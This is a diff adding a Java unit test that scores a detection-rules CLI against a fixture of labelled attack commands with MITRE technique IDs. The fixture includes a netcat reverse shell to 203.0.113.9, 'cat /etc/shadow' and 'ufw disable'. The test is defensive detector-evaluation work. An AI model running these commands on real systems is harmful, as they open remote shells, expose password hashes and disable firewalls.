@@ -96,6 +96,33 @@ class RulesCommandTest {
     }
 
     @Test
+    void testScoresLabelledCommandsByCategoryStrengthAndTechnique() throws Exception {
+        Path attacks = dir.resolve("attacks.jsonl");
+        Files.write(attacks, List.of(
+                "{\"technique\":\"T1562.004\",\"category\":\"config_tampering\",\"strength\":\"direct\",\"command\":\"ufw disable\"}",
+                "{\"technique\":\"T1007\",\"category\":\"outside_project_access\",\"strength\":\"indirect\",\"command\":\"launchctl list\"}",
+                "{\"technique\":\"T1030\",\"category\":\"network_exfiltration\",\"strength\":\"direct\",\"command\":\"split -b 1m dump.bin part_\"}",
+                "{\"technique\":\"T1003.008\",\"category\":\"destructive_command\",\"categories\":[\"destructive_command\",\"sensitive_file_access\"],"
+                        + "\"strength\":\"direct\",\"command\":\"cat /etc/shadow\"}",
+                "{\"expect\":\"remote_shell\",\"command\":\"nc -e /bin/sh 203.0.113.9 4444\"}"));
+        Cli.Run run = Cli.run("rules", "test", "--events", attacks.toString(), "--json");
+        assertThat(run.exitCode()).isZero();
+        List<JsonNode> lines = jsonLines(run.out().lines());
+        assertThat(lines.subList(0, 5)).extracting(line -> line.path("detected").asBoolean()).containsExactly(true, true, false, true, true);
+        assertThat(lines.get(0).path("rules").findValuesAsText("category")).contains("config_tampering");
+        JsonNode recall = lines.get(5).path("summary").path("recall");
+        assertThat(recall.path("labelled").asInt()).isEqualTo(5);
+        assertThat(recall.path("detected").asInt()).isEqualTo(4);
+        assertThat(recall.path("by_strength").path("direct").path("detected").asInt()).isEqualTo(2);
+        assertThat(recall.path("by_category").path("rule remote_shell").path("detected").asInt()).isEqualTo(1);
+        assertThat(recall.path("by_technique").path("T1030").path("detected").asInt()).isZero();
+        assertThat(recall.path("missed_lines").get(0).asInt()).isEqualTo(3);
+
+        Cli.Run text = Cli.run("rules", "test", "--events", attacks.toString());
+        assertThat(text.out()).contains("line 3: -  (missed)", "recall on labelled lines: 4/5 = 80.0 %", "by technique:", "missed lines: 3");
+    }
+
+    @Test
     void listTechniquesPrintsTheCoverageTableTheDocsHold() throws Exception {
         Cli.Run text = Cli.run("rules", "list", "--techniques");
         assertThat(text.exitCode()).isZero();
